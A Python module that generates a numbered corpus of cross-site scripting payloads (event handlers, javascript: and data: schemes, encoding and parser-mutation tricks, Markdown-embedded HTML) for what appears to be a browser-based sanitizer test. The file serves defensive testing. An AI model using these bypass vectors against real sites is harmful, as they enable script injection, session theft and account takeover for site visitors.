"""A corpus of hostile HTML and Markdown, made by code: tags, handlers, encodings, nesting, schemes, mutation tricks.

Each payload calls `__hit(n)` with its own number if it ever runs; the detector of the browser test defines that function.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from itertools import product

# Elements with a handler that fires by itself, without anyone touching the page.
SELF_FIRING = (
    "<img src=x onerror={js}>", "<image src=x onerror={js}>", "<svg onload={js}></svg>", "<svg><g onload={js}></g></svg>",
    "<audio src=x onerror={js}></audio>", "<video src=x onerror={js}></video>", "<video><source src=x onerror={js}></video>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}></select>", "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}><summary>x</summary></details>", "<iframe onload={js}></iframe>", "<object data=x onerror={js}></object>",
    "<embed src=x onload={js}>", "<link rel=stylesheet href=x onerror={js}>", "<style onload={js}></style>", "<script src=x onerror={js}></script>",
    "<body onload={js}>", "<marquee onstart={js}>x</marquee>", "<svg><animate onbegin={js} attributeName=x dur=1s></animate></svg>",
)  # fmt: skip
TOUCHED = ("onclick", "onmouseover", "onpointerenter", "onwheel", "oncopy", "ondrag", "onauxclick", "oncontextmenu", "onbeforeinput", "onkeydown")  # fmt: skip
CARRIERS = ("p", "b", "li", "blockquote", "div", "x-y", "math")
SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", " javascript:{js}", "\x01javascript:{js}", "javascript&colon;{js}",
    "&#106;avascript:{js}", "&#x6A;avascript:{js}", "&#0000106avascript:{js}", "vbscript:{js}", "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/{js}", "javascript://%0a{js}", "feed:javascript:{js}",
)  # fmt: skip
LINKS = (
    '<a href="{url}">x</a>', '<form action="{url}"><button>x</button></form>', '<iframe src="{url}"></iframe>', '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    "[x]({url})", "[x](<{url}>)", "![x]({url})", "[x][1]\n\n[1]: {url}", "<{url}>",
)  # fmt: skip
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={js}>">', "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={js}&gt;\">",
    '<svg></p><style><a id="</style><img src=x onerror={js}>">', '<math><annotation-xml encoding="text/html"><p><img src=x onerror={js}></annotation-xml></math>',
    "<svg><![CDATA[><img src=x onerror={js}>]]></svg>", "<template><img src=x onerror={js}></template>", "<xmp><p></xmp><img src=x onerror={js}>",
    "<title><p></title><img src=x onerror={js}>", "<textarea></textarea><img src=x onerror={js}>", "<iframe></iframe><img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->", "<!-- --!><img src=x onerror={js}>", "<![if ie]><img src=x onerror={js}><![endif]>", "<?xml ?><img src=x onerror={js}>",
    "<p><table><img src=x onerror={js}></table>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={js} src=x>\">",
    "<select><option></select><img src=x onerror={js}>", "<svg><style><img src=x onerror={js}></style></svg>", "<math><mi><svg onload={js}></svg></mi></math>",
    "<b><p></b><img src=x onerror={js}></p>", "<plaintext><img src=x onerror={js}>", "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
)  # fmt: skip
SCRIPTS = (
    "<script>{js}</script>", "<SCRIPT>{js}</SCRIPT>", "<script\x0c>{js}</script>", "<scr<script>ipt>{js}</scr</script>ipt>", "<<script>{js}//<</script>",
    "<script/x>{js}</script>", "<svg><script>{js}</script></svg>", "<script type=module>{js}</script>", "</p><script>{js}</script>",
    "<math><script>{js}</script></math>", "<script>{js}", "%3Cscript%3E{js}%3C/script%3E", "&lt;script&gt;{js}&lt;/script&gt;", "\\u003cscript\\u003e{js}",
    "＜script＞{js}＜/script＞", "<scrİpt>{js}</scrİpt>",
)  # fmt: skip
STYLES = (
    '<p style="background:url(javascript:{js})">x</p>', '<b style="position:fixed;inset:0" onclick="{js}">x</b>', "<style>@import 'javascript:{js}';</style>",
    '<link rel="import" href="data:text/html,<script>{js}</script>">', '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">', '<p id="main" name="body" class="usa-button">x</p>', '<li xml:base="javascript:{js}">x</li>',
)  # fmt: skip
MARKDOWN = (
    "**<img src=x onerror={js}>**", "> <svg onload={js}>", "- <img src=x onerror={js}>", "`<img src=x onerror={js}>`", "```\n<script>{js}</script>\n```",
    "# <img src=x onerror={js}>", "\\<img src=x onerror={js}>", "<img src=x\n\nonerror={js}>", "&#60;img src=x onerror={js}&#62;", "&lt;img src=x onerror={js}&gt;",
    "|<img src=x onerror={js}>|\n|-|", "***<b><img src=x onerror={js}>***</b>",
)  # fmt: skip


def plain(tag: str) -> str:
    return tag


def upper(tag: str) -> str:
    """The element's name in capitals."""
    name = tag[1:].split(" ", 1)
    return "<" + name[0].upper() + (" " + name[1] if len(name) > 1 else "")


def slashed(tag: str) -> str:
    """Slashes where blanks are looked for."""
    return tag.replace(" ", "/", 1)


def spaced(tag: str) -> str:
    """Odd white space around the handler's equals sign."""
    return tag.replace(" on", "\t\x0con").replace("={js}", "\n=\r{js}")


def unclosed(tag: str) -> str:
    """Cut off before its end, something harmless behind."""
    return tag.rsplit(">", 1)[0] + " <p>x"


def nested(tag: str) -> str:
    """In the middle of broken nesting."""
    return f"<b><i><p></b>{tag}</i><ul><li></p>"


WAYS: tuple[Callable[[str], str], ...] = (plain, upper, slashed, spaced, unclosed, nested)


@dataclass(frozen=True)
class Payload:
    """One hostile text, its number and from which family it is."""

    number: int
    family: str
    text: str


def corpus() -> list[Payload]:
    """Every payload, in a fixed order."""
    made: list[tuple[str, str]] = []
    made += [("self-firing", way(tag)) for tag, way in product(SELF_FIRING, WAYS)]
    made += [
        ("touched", f"<{tag} {handler}={{js}} tabindex=0>x</{tag}>") for tag, handler in product(CARRIERS, TOUCHED)
    ]
    made += [("scheme", link.replace("{url}", scheme)) for scheme, link in product(SCHEMES, LINKS)]
    made += [("mutation", text) for text in MUTATIONS]
    made += [("script", text) for text in SCRIPTS]
    made += [("style", text) for text in STYLES]
    made += [("markdown", text) for text in MARKDOWN]
    return [
        Payload(number, family, text.replace("{js}", f"__hit({number})")) for number, (family, text) in enumerate(made)
    ]
